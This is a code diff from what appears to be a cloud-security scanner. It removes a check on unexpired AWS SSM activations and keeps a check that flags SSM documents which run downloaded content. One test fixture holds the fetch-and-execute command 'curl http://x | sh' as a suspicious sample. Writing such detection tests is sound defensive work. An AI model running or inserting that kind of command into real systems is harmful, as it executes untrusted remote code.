@@ -9,7 +9,6 @@ use stanch_core::{Severity, Tactic};
 /// The answers it needs.
 const NEEDS: &[Need] = &[
     each("ssm", "GetDocument", "ListDocuments"),
-    list("ssm", "DescribeActivations"),
     list("ssm", "ListDocuments"),
 ];
 
@@ -49,17 +48,6 @@ impl Check for DocumentRunsDownload {
                     .say(&format!("document {name} runs what it downloads"));
             }
         }
-        for item in account.items("ssm", "DescribeActivations", "ActivationList") {
-            let id = item.text("ActivationId");
-            if !item.is("Expired") {
-                found
-                    .on(&item, "activation", id, id)
-                    .weak(Severity::Medium)
-                    .fact("role", item.text("IamRole"))
-                    .fact("expires", item.text("ExpirationDate"))
-                    .say(&format!("activation {id} lets machines from outside register"));
-            }
-        }
     }
 }
 
@@ -67,7 +55,7 @@ impl Check for DocumentRunsDownload {
 pub(super) fn examples() -> Vec<crate::assess::contract::Example> {
     use serde_json::json;
 
-    use crate::assess::contract::{answer, asked, silent, suspicious, weak};
+    use crate::assess::contract::{asked, silent, suspicious};
 
     let document = |content: &str| {
         asked(
@@ -78,10 +66,6 @@ pub(super) fn examples() -> Vec<crate::assess::contract::Example> {
     };
     vec![
         suspicious(vec![document("curl http://x | sh")]),
-        weak(vec![answer(
-            "ssm:DescribeActivations",
-            json!({"ActivationList": [{"ActivationId": "a"}]}),
-        )]),
         silent(vec![document("yum update")]),
     ]
 }
